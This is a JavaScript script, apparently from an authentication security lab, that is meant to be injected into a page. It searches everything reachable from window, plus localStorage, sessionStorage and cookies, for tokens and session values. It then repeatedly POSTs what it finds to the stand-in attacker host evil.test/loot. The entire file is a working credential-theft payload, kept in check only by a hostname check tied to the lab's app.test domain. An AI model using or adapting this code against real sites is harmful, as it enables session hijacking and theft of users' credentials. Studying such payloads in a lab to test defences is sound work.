// Injected into the lab's page: reads what is stored there, and changes nothing. It works against the lab's own sites only.

(() => {
  if (location.hostname !== 'app.test' && !location.hostname.endsWith('.app.test')) return

  const LOOT = `${location.protocol}//evil.test/loot`
  const FOR_MS = 60_000
  const EVERY_MS = 500
  const MOST = 60_000 // objects to walk through
  const TOKEN = /^[\w-]{10,}\.[\w-]{10,}\.[\w-]{10,}$/
  const TELLING = /token|session|auth|credential/i

  const sent = new Set()

  function childrenOf(place) {
    try {
      return place instanceof Node ? [...place.childNodes] : []
    } catch {
      return [] // Node.prototype, which is no node
    }
  }

  /** Every string that looks like a credential in whatever can be reached from window, without calling anything. */
  function reachable() {
    const found = []
    const met = new Set([window])
    const next = [[window, 'window']]
    while (next.length > 0 && met.size < MOST) {
      const [place, path] = next.shift()
      const inside = place instanceof Map ? [...place].flat() : place instanceof Set ? [...place] : []
      const own = Object.entries(Object.getOwnPropertyDescriptors(place)).map(([name, about]) => [name, about.value])
      const nodes = childrenOf(place).map((node, at) => [`childNodes.${at}`, node])
      for (const [name, value] of [...own, ...nodes, ...inside.map((value, at) => [`entry ${at}`, value])]) {
        if (typeof value === 'string') {
          if (TOKEN.test(value) || (TELLING.test(name) && /^[\w-]{32,}$/.test(value))) found.push([`${path}.${name}`, value])
        } else if (value !== null && ['object', 'function'].includes(typeof value) && !met.has(value)) {
          met.add(value)
          next.push([value, `${path}.${name}`])
        }
      }
    }
    return found
  }

  function look() {
    const found = reachable()
    for (const [name, value] of Object.entries({ ...localStorage })) found.push([`localStorage.${name}`, value])
    for (const [name, value] of Object.entries({ ...sessionStorage })) found.push([`sessionStorage.${name}`, value])
    for (const pair of document.cookie.split('; ').filter(Boolean)) {
      found.push([`document.cookie ${pair.split('=')[0]}`, pair.slice(pair.indexOf('=') + 1)])
    }
    return found.filter(([where, value]) => !sent.has(where + value))
  }

  function bring(found) {
    for (const [where, value] of found) sent.add(where + value)
    fetch(LOOT, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ thief: 'passive', found: Object.fromEntries(found) }) }).catch(() => {})
    const says = found.length > 0 ? `Sent to evil.test: ${found.map(([where]) => where).join(', ')}.` : 'It looked and found nothing.'
    document.dispatchEvent(new CustomEvent('authlab-told', { detail: { thief: 'passive', worked: found.length > 0, says } }))
  }

  bring(look())
  const again = setInterval(() => {
    const found = look()
    if (found.length > 0) bring(found)
  }, EVERY_MS)
  setTimeout(() => clearInterval(again), FOR_MS)
})()
